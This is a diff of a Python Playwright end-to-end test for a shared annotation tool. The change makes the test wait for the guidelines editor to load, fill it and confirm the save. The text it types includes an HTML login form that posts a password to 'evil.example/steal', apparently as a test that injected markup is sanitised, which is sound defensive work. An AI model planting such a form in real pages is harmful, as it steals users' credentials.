@@ -303,9 +303,15 @@ def test_two_annotators_queues_progress_guidelines_and_agreement(data_dir: Path,
         assert alice.locator("#rate-guidelines-edit, #rate-guidelines-editor").count() == 0
         bob.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
         bob.get_by_text("Edit the guidelines").click()
-        bob.fill("#rate-guidelines-editor textarea", "### Our rules\n- **Count** every sign you can read.\n\n"
-                 "<form action='https://evil.example/steal'><input name='password'><button>Log in</button></form>")
+        new_rules = ("### Our rules\n- **Count** every sign you can read.\n\n"
+                     "<form action='https://evil.example/steal'><input name='password'><button>Log in</button></form>")
+        editor = bob.locator("#rate-guidelines-editor textarea")
+        # The editor's text arrives by the page-load event; typing before it lands would be overwritten.
+        expect(editor).to_have_value(re.compile("Rating guidelines"), timeout=20_000)
+        editor.fill(new_rules)
+        expect(editor).to_have_value(new_rules)
         bob.click("#rate-guidelines-save")
+        expect(bob.locator("#rate-guidelines-edit")).to_contain_text("Saved the guidelines", timeout=20_000)
         expect(bob.locator("#rate-guidelines-text")).to_contain_text("Count every sign", timeout=20_000)
         assert "Our rules" in (data_dir / "guidelines.md").read_text(encoding="utf-8")
         # The page alice loads next shows the file as it is now (read at each page load, not at server start).
